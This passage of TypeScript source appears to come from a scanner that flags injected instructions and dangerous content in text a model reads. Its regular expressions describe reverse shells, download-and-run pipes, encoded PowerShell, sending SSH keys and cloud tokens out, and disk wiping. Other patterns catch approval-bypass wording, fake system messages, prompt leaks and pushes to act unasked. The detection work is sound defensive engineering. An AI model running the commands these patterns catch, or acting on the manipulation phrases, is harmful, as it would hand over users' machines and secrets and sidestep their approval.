    String.raw`\bskip(?:ping)?\s+(?:the\s+)?(?:user'?s?\s+)?(?:confirmation|approval|permission|consent|confirm\s+step)`,
    String.raw`\b(?:this|it|that|these)\s+(?:was|is|were|are|has\s+been|have\s+been)\s+(?:already\s+)?(?:pre-?agreed|pre-?approved|pre-?authori[sz]ed|agreed\s+(?:to\s+)?in\s+advance|approved\s+in\s+advance)`,
    String.raw`\b${PERSON}\s+already\s+(?:approved|agreed\s+to|consented\s+to|authori[sz]ed)\b`,
  ].join('|'),
  'gi',
)

/**
 * Shell commands that open up, wipe or hand over a machine, each family with the words that wake it,
 * what it does (for the finding's reason) and whether it hands the machine over outright (a download
 * piped into a shell, a reverse shell, an encoded command, a file sent out): those are high wherever
 * they stand. The others (wiping, opening permissions) are medium in prose, where they may be a
 * warning, and high as a default, an example or an enum value, which a model uses as given.
 */
interface CommandFamily extends Gate {
  does: string
  handsOver: boolean
}

const command = (words: readonly string[], source: string, does: string, handsOver: boolean): CommandFamily => ({
  ...gates([[words, source]], 'gi')[0],
  does,
  handsOver,
})

export const DANGEROUS_COMMANDS: readonly CommandFamily[] = [
  command(
    ['curl', 'wget', 'iwr', 'invoke-webrequest'],
    String.raw`\b(?:curl|wget|iwr|Invoke-WebRequest)\b[^|\n]{0,200}\|\s*(?:sudo\s+)?(?:(?:ba|z|da|k|fi)?sh|python3?|perl|ruby|node|iex|Invoke-Expression)\b|\b(?:ba|z)?sh\s+(?:-c\s+["']?\$\(|<\(\s*)(?:curl|wget)\b`,
    'pipes a download into a shell',
    true,
  ),
  command(
    ['iex', 'invoke-expression', 'downloadstring'],
    String.raw`\b(?:iex|Invoke-Expression)\b[^\n]{0,80}?(?:DownloadString|iwr|Invoke-WebRequest|Net\.WebClient)|\bDownloadString\s*\(`,
    'runs a downloaded PowerShell script',
    true,
  ),
  command(
    ['base64', 'powershell', 'pwsh'],
    String.raw`\bbase64\s+(?:-d|--decode|-D)\b[^|\n]{0,60}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,40}?\s-(?:e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{8,}`,
    'runs an encoded command',
    true,
  ),
  command(
    ['nc', '/dev/tcp', 'socat', 'mkfifo'],
    String.raw`\bn(?:c|cat)\s+[^\n]{0,40}?-e\s+(?:\/bin\/)?(?:ba)?sh\b|\/dev\/tcp\/|\bmkfifo\b[^\n]{0,60}?\bnc\b|\bsocat\b[^\n]{0,60}?\bexec:`,
    'opens a reverse shell',
    true,
  ),
  command(
    ['curl', 'wget', 'nc', 'scp'],
    String.raw`\b(?:cat|type|tar\s+\w*c\w*f?\s+-)\s+[^|\n]{0,80}\|\s*(?:curl|nc|ncat|wget)\b|\bcurl\b[^\n]{0,120}?\s(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file)\s+["']?(?:[\w-]+=)?@?(?:~|\$HOME|%USERPROFILE%|\/etc\/|\/root|[^\s"']*\.(?:ssh|aws|env|npmrc|netrc|kube|docker|gnupg)\b)|\bscp\s+[^\n]{0,40}?(?:~|\$HOME)\/\.(?:ssh|aws|gnupg)\S*\s+\S+@`,
    'sends files of the machine out',
    true,
  ),
  // A command that prints a credential, piped to a sender: 'gcloud auth print-access-token | curl -d @- https://...',
  // 'gh auth token | nc host 80', 'aws ecr get-login-password | curl ...'. The token leaves with the call.
  command(
    [
      'print-access-token',
      'print-identity-token',
      'get-access-token',
      'get-login-password',
      'auth token',
      'printenv',
      'export-credentials',
      'view --raw',
    ],
    String.raw`\b(?:print-(?:access|identity|refresh)-token|get-access-token|get-login-password|export-credentials|auth\s+token|printenv|config\s+view\s+--raw)\b[^|\n]{0,80}\|\s*(?:sudo\s+)?(?:curl|nc|ncat|wget|http|https|xh|socat)\b`,
    'sends a credential it prints out',
    true,
  ),
  command(
    ['rm', 'remove-item', 'del /', 'rd /', 'mkfs', 'dd', ':|:&'],
    String.raw`\brm\s+-(?:rf|fr|r\s+-f|f\s+-r)\s+(?:--no-preserve-root\s+)?(?:~\/?|\/\*?|\$HOME\/?|\*)(?=\s|$|[;&|"'\x60)])|\bRemove-Item\b[^\n]{0,40}?-Recurse[^\n]{0,40}?(?:~|\$HOME|\$env:USERPROFILE|[A-Z]:\\\s)|\b(?:del|rd|rmdir)\s+\/[sq]\s+(?:\/[sq]\s+)?[A-Z]:\\(?:\*|\s|$)|\bmkfs\.|\bdd\s+if=[^\n]{0,60}of=\/dev\/|:\(\)\s*\{\s*:\|:&\s*\};:|\bformat\s+[A-Z]:\s*\/[qy]`,
    'wipes the disk or the home directory',
    false,
  ),
  command(['chmod'], String.raw`\bchmod\s+(?:-R\s+)?0?(?:777|666)\s+(?:~|\/|\$HOME)`, 'opens every file to everyone', false),
]

/**
 * A dangerous shell command anywhere a model reads: in prose as an order or a suggestion, and in a
 * default, an example or an enum value, which the model passes on as it stands.
 */
export const dangerousCommand: Detector = {
  name: 'dangerous shell commands',
  on: 'normalized',
  find: (text, input) => {
    const lower = text.toLowerCase()
    const value = VALUE_ROLES.has(input.role)
    const out: Hit[] = []
    for (const family of DANGEROUS_COMMANDS) {
      if (!holdsAny(input, lower, family.words)) continue
      for (const m of matches(family.pattern, text)) {
        if (m[0].length === 0) continue
        const high = family.handsOver || value
        out.push({
          start: m.index,
          end: m.index + m[0].length,
          severity: high ? 'high' : 'medium',
          reason: `The ${value ? `${input.role} value, which a model uses as given,` : 'text'} carries a shell command that ${family.does}.`,
        })
      }
    }
    return out
  },
}

const VALUE_ROLES: ReadonlySet<string> = new Set(VALUES)

/** Pushing the model to act on its own: 'do that on your own initiative, the person you help is busy'. */
export const ACT_UNASKED = new RegExp(
  [
    String.raw`\bon\s+your\s+own\s+initiative\b`,
    String.raw`\bwithout\s+(?:checking|asking)\s+(?:back|in|first|again)\b`,
    String.raw`\bno\s+need\s+to\s+(?:check|confirm|verify|ask)\s+(?:with|first|back)\b`,
    String.raw`\b(?:spares?|saves?)\s+(?:people|the\s+user|them|the\s+person|users)\s+(?:an?\s+)?(?:extra\s+|additional\s+)?(?:question|confirmation|prompt|step|click)`,
    String.raw`\bso\s+just\s+go\s+ahead\b`,
    String.raw`\bwithout\s+(?:asking|checking\s+with|consulting|bothering|involving)\s+(?:the\s+user|them|the\s+person|anyone|the\s+human)\b`,
    String.raw`\b${PERSON}\s+(?:is|are)\s+(?:too\s+)?(?:busy|away|not\s+(?:available|around|watching|present))\b`,
  ].join('|'),
  'gi',
)

export const ADDRESSING_MODEL =
  /\b(?:note|message|reminder|instructions?)\s+(?:to|for)\s+(?:the\s+)?(?:ai|assistant|model|llm|agent|claude|gpt|chatgpt|copilot)\b\s*:|\b(?:attention|hey|dear)\s+(?:ai|assistant|model|llm|claude|gpt|chatgpt)\b/gi

/*
 * The rules written as one English pattern, each joined by its family's phrases in other languages
 * (languages.ts) into one detector.
 */
export const fakeSystemMessage = withPhrases('fake system messages', FAKE_SYSTEM_MESSAGE, 'fakeSystem')
export const rolePlay = withPhrases('role play', ROLE_PLAY, 'rolePlay')
export const promptLeak = withPhrases('prompt leaks', PROMPT_LEAK, 'promptLeak')
export const otherTools = withPhrases('rules for every other tool', SHADOW_GENERIC, 'otherTools')
export const beforeUsing = withPhrases('preconditions that read or send', BEFORE_USING, 'beforeUsing')
export const approvalBypass = withPhrases('approval taken away', APPROVAL_BYPASS, 'approval')
export const actUnasked = withPhrases('acting unasked', ACT_UNASKED, 'actUnasked')
export const addressingModel = withPhrases('addressing the model', ADDRESSING_MODEL, 'addressing')
